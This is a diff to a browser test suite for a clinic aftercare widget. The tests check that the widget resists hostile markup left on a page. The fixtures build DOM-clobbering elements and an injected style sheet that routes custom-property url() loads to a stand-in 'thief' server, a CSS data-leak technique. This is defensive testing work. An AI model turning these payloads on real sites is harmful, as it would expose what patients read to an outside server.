@@ -94,9 +94,7 @@ const heard = () => browser.run(() => Reflect.get(window, "heard"));
 describe("markup that a visitor may leave on a clinic's page", () => {
   it("named like the running script, sends the widget nowhere else for its texts and sources", async () => {
     const image = `<img name="currentScript" src="${thief.address("a.png")}" data-sources="${thief.address("sources.html")}" alt="">`;
-    const others = ["baseURI", "head"]
-      .map((name) => `<form name="${name}"></form>`)
-      .join("");
+    const others = ["baseURI", "head"].map((name) => `<form name="${name}"></form>`).join("");
     await open({ head: own, body: image + others, tag: 'treatment="dysport" hours="14" sources="page"' });
     await seesAnswer(browser);
     await (await browser.summary()).click();
@@ -142,9 +140,6 @@ describe("a style sheet that somebody has got onto a clinic's page", () => {
 
   it("cannot have anything loaded by which a server would learn what a patient reads", async () => {
     assert.ok(properties.length > 10, "the element has custom properties");
-    const loads = properties.map((name) => `${name}: url("${thief.address(name)}.svg#a")`).join("; ");
-    const head = `${own}<style>aftercare-consensus { ${loads}; }
-      h1 { background: url("${thief.address("control.svg")}") }</style>`;
     // One for each colour that says something: wait, fine, no majority, too few answers, an error.
     const questions = [
       'treatment="dysport" hours="1"',
@@ -155,7 +150,11 @@ describe("a style sheet that somebody has got onto a clinic's page", () => {
       'treatment="dysport" hours="1" clinic="Elm Street" protocol="exercise 24h" contact="+44 20 7946 0000"',
       "",
     ];
-    for (const tag of questions) {
+    for (const [place, tag] of questions.entries()) {
+      // A browser asks for one picture once.
+      const url = (/** @type {string} */ name) => `url("${thief.address(name)}.svg?${place}#a")`;
+      const loads = properties.map((name) => `${name}: ${url(name)}`).join("; ");
+      const head = `${own}<style>aftercare-consensus { ${loads}; } h1 { background: ${url("control")} }</style>`;
       await open({ head, body: "<h1>After your treatment</h1>", tag });
       await browser.until(
         () =>
